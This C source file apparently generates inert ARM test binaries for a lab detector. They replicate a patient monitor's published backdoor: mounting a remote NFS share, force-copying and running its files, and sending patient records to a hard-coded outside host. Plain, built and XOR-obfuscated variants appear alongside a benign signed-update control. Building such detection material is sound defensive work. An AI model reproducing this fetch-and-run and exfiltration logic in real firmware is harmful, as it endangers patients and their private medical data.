/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What the lab's ARM programs do. The order of operations of monitor_obeying is the published one
 * (ICSMA-25-030-01): interface up, mount, forced copy, run. In all but monitor_as_text its address stands nowhere
 * as text. */
#include "lab/firmware_monitor.h"

#include <stdio.h>

enum { R0, R1, R2, R3, R4, R5, R6 };
enum { AF_INET_ = 2, SOCK_STREAM_ = 1, HL7_PORT = 511 };
#define FAR_HL7 IP4(202, 114, 4, 120)

static uint32_t little(uint32_t v)               /* a value of the wire as a little-endian CPU holds it */
{
	return v >> 24 | (v >> 8 & 0xff00) | (v << 8 & 0xff0000) | v << 24;
}

static void run(struct arm *a, const char *command)
{
	arm_text(a, R0, command);
	arm_call(a, "system");
}

/* Ends the function at once on every real machine: no process is its own parent there. An emulator that gives one
 * number for both goes on, and so does one that takes both sides of a branch. Not only the loader that exists
 * nowhere keeps the program from acting. */
static void stay_inert(struct arm *a)
{
	arm_call(a, "getpid");
	arm_move(a, R4, R0);
	arm_call(a, "getppid");
	arm_math(a, ARM_SUB, R0, R4, R0);
	arm_compare(a, R0, 0);
	arm_leave(a, ARM_NE);
}

/* int central_connect(in_addr_t address, in_port_t port): a socket, or -1 */
static void central_connect(struct arm *a)
{
	arm_begin(a, "central_connect", 16);
	arm_move(a, R4, R0);
	arm_move(a, R5, R1);
	arm_number(a, R0, AF_INET_);
	arm_number(a, R1, SOCK_STREAM_);
	arm_number(a, R2, 0);
	arm_call(a, "socket");
	arm_move(a, R6, R0);
	arm_number(a, R3, 0);
	arm_store(a, R3, 8);
	arm_store(a, R3, 12);
	arm_number(a, R3, AF_INET_);
	arm_store_half(a, R3, 0);
	arm_store_half(a, R5, 2);
	arm_store(a, R4, 4);
	arm_move(a, R0, R6);
	arm_local(a, R1, 0);
	arm_number(a, R2, 16);
	arm_call(a, "connect");
	arm_compare(a, R0, 0);
	arm_move(a, R0, R6);
	arm_leave(a, ARM_EQ);
	arm_call(a, "close");
	arm_number(a, R0, UINT32_MAX);
	arm_end(a);
}

/* void record_send(int s): one message with the lines of the patient's file */
static void record_send(struct arm *a)
{
	enum { ARGS = 0, NAME = 16, ID = 80, BIRTH = 144, MESSAGE = 208, SIZE = 512 };
	arm_begin(a, "record_send", MESSAGE + SIZE);
	arm_move(a, R4, R0);
	arm_text(a, R0, "/opt/data/patient");
	arm_text(a, R1, "r");
	arm_call(a, "fopen");
	arm_move(a, R5, R0);
	arm_compare(a, R0, 0);
	arm_leave(a, ARM_EQ);
	for (uint32_t line = NAME; line <= BIRTH; line += ID - NAME) {
		arm_local(a, R0, line);
		arm_number(a, R1, ID - NAME);
		arm_move(a, R2, R5);
		arm_call(a, "fgets");
	}
	arm_move(a, R0, R5);
	arm_call(a, "fclose");
	arm_local(a, R3, ID);
	arm_store(a, R3, ARGS + 0);
	arm_local(a, R3, NAME);
	arm_store(a, R3, ARGS + 4);
	arm_local(a, R3, BIRTH);
	arm_store(a, R3, ARGS + 8);
	arm_local(a, R0, MESSAGE);
	arm_number(a, R1, SIZE);
	arm_text(a, R2, "\vMSH|^~\\&|PM8000|BED%d|CENTRAL||||ORU^R01|1|P|2.3\rPID|1||%s||%s||%s\r\034\r");
	arm_number(a, R3, 8);
	arm_call(a, "snprintf");
	arm_local(a, R0, MESSAGE);
	arm_call(a, "strlen");
	arm_move(a, R2, R0);
	arm_move(a, R0, R4);
	arm_local(a, R1, MESSAGE);
	arm_number(a, R3, 0);
	arm_call(a, "send");
	arm_end(a);
}

/* How the command that mounts comes to be. */
enum mount_form {
	MOUNT_BUILT,                             /* put together by snprintf from numbers */
	MOUNT_TEXT,                              /* stands in the file as it is */
	MOUNT_ENCODED,                           /* stands in the file exclusive-ored with MOUNT_MASK */
};
enum { MOUNT_MASK = 0x5a };

struct monitor {                                 /* what one build of it differs in */
	const char *folder, *name;               /* where it lies in the image */
	enum mount_form form;
	bool rebuilt;                            /* other order, other addresses, no symbols */
};

static void mount_built(struct arm *a, uint32_t command, uint32_t size)
{
	enum { ARGS = 0 };
	arm_number(a, R3, 114);
	arm_store(a, R3, ARGS + 0);
	arm_number(a, R3, 4);
	arm_store(a, R3, ARGS + 4);
	arm_number(a, R3, 119);
	arm_store(a, R3, ARGS + 8);
	arm_text(a, R3, "/pm");
	arm_store(a, R3, ARGS + 12);
	arm_text(a, R3, "/mnt");
	arm_store(a, R3, ARGS + 16);
	arm_local(a, R0, command);
	arm_number(a, R1, size);
	arm_text(a, R2, "mount -o nolock -t nfs %d.%d.%d.%d:%s %s");
	arm_number(a, R3, 202);
	arm_call(a, "snprintf");
	arm_local(a, R0, command);
}

static void mount_decoded(struct arm *a, uint32_t command)
{
	static const char text[] = "mount -o nolock -t nfs 202.114.4.119:/pm /mnt";
	uint8_t masked[sizeof(text)];
	for (size_t i = 0; i < sizeof(text); i++)
		masked[i] = (uint8_t)text[i] ^ MOUNT_MASK;
	arm_data(a, R4, arm_put(a, span_of(masked, sizeof(masked))));
	arm_local(a, R5, command);
	uint32_t next = arm_here(a);
	arm_load_byte_next(a, R3, R4);
	arm_math_small(a, ARM_EOR, R3, R3, MOUNT_MASK);
	arm_store_byte_next(a, R3, R5);
	arm_compare(a, R3, 0);
	arm_jump(a, ARM_NE, next);
	arm_local(a, R0, command);
}

/* int update_from_center(void) */
static void update_from_center(struct arm *a, const struct monitor *m)
{
	enum { COMMAND = 24, SIZE = 128 };
	char line[64];
	arm_begin(a, "update_from_center", COMMAND + SIZE);
	stay_inert(a);
	run(a, "ifconfig eth0 up");
	if (m->form == MOUNT_BUILT)
		mount_built(a, COMMAND, SIZE);
	else if (m->form == MOUNT_ENCODED)
		mount_decoded(a, COMMAND);
	else
		arm_text(a, R0, "mount -o nolock -t nfs 202.114.4.119:/pm /mnt");
	arm_call(a, "system");
	arm_compare(a, R0, 0);
	arm_leave(a, ARM_NE);
	snprintf(line, sizeof(line), "cp -rf /mnt/* %s", m->folder);
	run(a, line);
	run(a, "umount /mnt");
	snprintf(line, sizeof(line), "chmod +x %s/%s", m->folder, m->name);
	run(a, line);
	snprintf(line, sizeof(line), "%s/%s &", m->folder, m->name);
	run(a, line);
	arm_number(a, R0, 0);
	arm_end(a);
}

/* The main loop: send, wait, until the connection fails. r4: the socket. */
static void loop(struct arm *a, uint8_t seconds)
{
	uint32_t again = arm_here(a);
	arm_move(a, R0, R4);
	arm_call(a, "record_send");
	arm_number(a, R0, seconds);
	arm_call(a, "sleep");
	arm_compare(a, R0, 0);
	arm_jump(a, ARM_EQ, again);
	arm_move(a, R0, R4);
	arm_call(a, "close");
	arm_number(a, R0, 0);
}

static void monitor_main(struct arm *a)
{
	arm_begin(a, "main", 0);
	stay_inert(a);
	arm_text(a, R0, "/tmp/key_held");        /* what the buttons' driver leaves */
	arm_number(a, R1, 0);
	arm_call(a, "access");
	arm_compare(a, R0, 0);
	uint32_t not_held = arm_skip(a, ARM_NE);
	arm_call(a, "update_from_center");
	arm_land(a, not_held);
	arm_number(a, R0, little(FAR_HL7));
	arm_number(a, R1, (HL7_PORT & 0xff) << 8 | HL7_PORT >> 8);
	arm_call(a, "central_connect");
	arm_move(a, R4, R0);
	arm_compare(a, R0, 0);
	arm_leave(a, ARM_LT);
	loop(a, 2);
	arm_end(a);
}

static void self_test(struct arm *a)
{
	arm_begin(a, "self_test", 0);
	arm_text(a, R0, "self test: display, keys, beeper\n");
	arm_call(a, "puts");
	arm_number(a, R0, 0);
	arm_end(a);
}

static void monitor_build(struct arm *a, const struct monitor *m)
{
	a->library[0] = "libc.so.0";
	a->keeps_symbols = !m->rebuilt;
	if (m->rebuilt) {
		self_test(a);
		update_from_center(a, m);
	}
	central_connect(a);
	record_send(a);
	if (!m->rebuilt)
		update_from_center(a, m);
	monitor_main(a);
}

void monitor_obeying(struct arm *a)
{
	static const struct monitor m = { "/opt/bin", "monitor", MOUNT_BUILT, false };
	monitor_build(a, &m);
}

void monitor_as_text(struct arm *a)
{
	static const struct monitor m = { "/opt/bin", "monitor", MOUNT_TEXT, false };
	monitor_build(a, &m);
}

void monitor_encoded(struct arm *a)
{
	static const struct monitor m = { "/opt/bin", "monitor", MOUNT_ENCODED, false };
	monitor_build(a, &m);
}

void monitor_renamed(struct arm *a)
{
	static const struct monitor m = { "/opt/app", "patientui", MOUNT_BUILT, true };
	monitor_build(a, &m);
}

/* int setting_read(const char *key, char *value): 64 bytes of value; 1 when the key is there */
static void setting_read(struct arm *a)
{
	enum { LINE = 8, SIZE = 128, FILE_AT = 0, KEY_AT = 4 };
	arm_begin(a, "setting_read", LINE + SIZE);
	arm_store(a, R0, KEY_AT);
	arm_move(a, R5, R1);
	arm_call(a, "strlen");
	arm_move(a, R6, R0);
	arm_text(a, R0, "/etc/monitor.conf");
	arm_text(a, R1, "r");
	arm_call(a, "fopen");
	arm_store(a, R0, FILE_AT);
	arm_compare(a, R0, 0);
	arm_leave(a, ARM_EQ);
	uint32_t next = arm_here(a);
	arm_local(a, R0, LINE);
	arm_number(a, R1, SIZE);
	arm_load(a, R2, 13, FILE_AT);
	arm_call(a, "fgets");
	arm_compare(a, R0, 0);
	uint32_t ended = arm_skip(a, ARM_EQ);
	arm_local(a, R0, LINE);
	arm_load(a, R1, 13, KEY_AT);
	arm_move(a, R2, R6);
	arm_call(a, "strncmp");
	arm_compare(a, R0, 0);
	arm_jump(a, ARM_NE, next);
	arm_local(a, R1, LINE);
	arm_math(a, ARM_ADD, R1, R1, R6);
	arm_move(a, R0, R5);
	arm_number(a, R2, 63);
	arm_call(a, "strncpy");
	arm_load(a, R0, 13, FILE_AT);
	arm_call(a, "fclose");
	arm_number(a, R0, 1);
	arm_leave(a, ARM_ALWAYS);
	arm_land(a, ended);
	arm_load(a, R0, 13, FILE_AT);
	arm_call(a, "fclose");
	arm_number(a, R0, 0);
	arm_end(a);
}

/* An update from the stick, only when its signature holds. */
static void update_from_stick(struct arm *a)
{
	arm_begin(a, "update_from_stick", 0);
	run(a, "openssl dgst -sha256 -verify /etc/update.pub -signature /media/usb/update.sig /media/usb/update.tar");
	arm_compare(a, R0, 0);
	arm_leave(a, ARM_NE);
	run(a, "tar -xf /media/usb/update.tar -C /opt/bin");
	arm_number(a, R0, 0);
	arm_end(a);
}

void monitor_configured(struct arm *a)
{
	enum { VALUE = 0, SIZE = 64 };
	a->library[0] = "libc.so.0";
	a->keeps_symbols = true;
	central_connect(a);
	record_send(a);
	setting_read(a);
	update_from_stick(a);
	arm_begin(a, "main", VALUE + SIZE);
	stay_inert(a);
	arm_text(a, R0, "/tmp/key_held");
	arm_number(a, R1, 0);
	arm_call(a, "access");
	arm_compare(a, R0, 0);
	uint32_t not_held = arm_skip(a, ARM_NE);
	arm_call(a, "update_from_stick");
	arm_land(a, not_held);
	arm_text(a, R0, "server=");
	arm_local(a, R1, VALUE);
	arm_call(a, "setting_read");
	arm_compare(a, R0, 0);
	arm_leave(a, ARM_EQ);
	arm_local(a, R0, VALUE);
	arm_call(a, "inet_addr");
	arm_move(a, R4, R0);
	arm_text(a, R0, "port=");
	arm_local(a, R1, VALUE);
	arm_call(a, "setting_read");
	arm_compare(a, R0, 0);
	arm_leave(a, ARM_EQ);
	arm_local(a, R0, VALUE);
	arm_call(a, "atoi");
	arm_call(a, "htons");
	arm_move(a, R1, R0);
	arm_move(a, R0, R4);
	arm_call(a, "central_connect");
	arm_move(a, R4, R0);
	arm_compare(a, R0, 0);
	arm_leave(a, ARM_LT);
	loop(a, 2);
	arm_end(a);
}

void box_program(struct arm *a)
{
	static const char *const applets[] = {
		"ash", "cat", "chmod", "cp", "ftpget", "ifconfig", "insmod", "ls", "mount", "nc", "ping", "route", "rm",
		"sh", "telnet", "telnetd", "tftp", "udhcpc", "umount", "wget",
	};
	a->library[0] = "libc.so.0";
	arm_begin(a, "main", 0);
	arm_load(a, R4, R1, 0);
	arm_text(a, R0, "BusyBox v1.13.2 (lab) multi-call binary\n");
	arm_call(a, "puts");
	for (size_t i = 0; i < ARRAY_LEN(applets); i++) {
		arm_move(a, R0, R4);
		arm_text(a, R1, applets[i]);
		arm_call(a, "strcmp");
		arm_compare(a, R0, 0);
		uint32_t other = arm_skip(a, ARM_NE);
		arm_text(a, R0, applets[i]);
		arm_call(a, "puts");
		arm_land(a, other);
	}
	arm_text(a, R0, "mount [-o OPTIONS] [-t TYPE] DEVICE NODE; mount -t nfs 10.0.0.1:/export /mnt");
	arm_call(a, "puts");
	arm_number(a, R0, 0);
	arm_end(a);
}

/* A loop over bytes of a text, with a choice in it. */
static void filler_loop(struct arm *a, struct net *dice, const char *text)
{
	arm_text(a, R4, text);
	arm_number(a, R5, 0);
	uint32_t next = arm_here(a);
	arm_load_byte_next(a, R3, R4);
	arm_math_small(a, net_below(dice, 2) ? ARM_ADD : ARM_EOR, R5, R5, (uint8_t)net_below(dice, 255));
	arm_math(a, ARM_ADD, R5, R5, R3);
	arm_compare(a, R3, 0);
	arm_jump(a, ARM_NE, next);
	arm_compare(a, R5, (uint8_t)net_below(dice, 255));
	uint32_t other = arm_skip(a, net_below(dice, 2) ? ARM_EQ : ARM_LT);
	arm_math_small(a, ARM_SUB, R5, R5, 3);
	arm_land(a, other);
}

static void filler_format(struct arm *a, struct net *dice, const char *text)
{
	arm_local(a, R0, 8);
	arm_number(a, R1, 64);
	arm_text(a, R2, net_below(dice, 2) ? "%s: %d of " : "[%s] code %04x");
	arm_text(a, R3, text);
	arm_store(a, R5, 0);
	arm_call(a, "snprintf");
	arm_local(a, R0, 8);
	arm_call(a, net_below(dice, 2) ? "puts" : "strlen");
	arm_compare(a, R0, 0);
	uint32_t other = arm_skip(a, ARM_EQ);
	arm_local(a, R0, 8);
	arm_text(a, R1, text);
	arm_call(a, "strcmp");
	arm_land(a, other);
}

static void filler_function(struct arm *a, struct net *dice, uint32_t i)
{
	static const char *const words[] = { "alarm", "limit", "trend", "probe", "cuff", "lead", "filter", "page" };
	char own[ARM_NAME], text[48];
	snprintf(own, sizeof(own), "part_%u", i);
	snprintf(text, sizeof(text), "%s.%s.%u", words[net_below(dice, 8)], words[net_below(dice, 8)],
		 net_below(dice, 500));
	arm_begin(a, own, 72);
	arm_number(a, R5, net_below(dice, 100000));
	for (uint32_t k = net_below(dice, 3); k < 4; k++)
		net_below(dice, 2) ? filler_loop(a, dice, text) : filler_format(a, dice, text);
	if (i && net_below(dice, 3)) {
		snprintf(own, sizeof(own), "part_%u", i - 1 - net_below(dice, i < 40 ? i : 40));
		arm_call(a, own);
	}
	arm_move(a, R0, R5);
	arm_end(a);
}

void filler_program(struct arm *a, struct net *dice)
{
	enum { PARTS = 700 };
	char own[ARM_NAME];
	a->library[0] = "libc.so.0";
	for (uint32_t i = 0; i < PARTS; i++)
		filler_function(a, dice, i);
	arm_begin(a, "main", 0);
	for (uint32_t i = 0; i < PARTS; i += 7) {
		snprintf(own, sizeof(own), "part_%u", i);
		arm_call(a, own);
	}
	arm_number(a, R0, 0);
	arm_end(a);
}
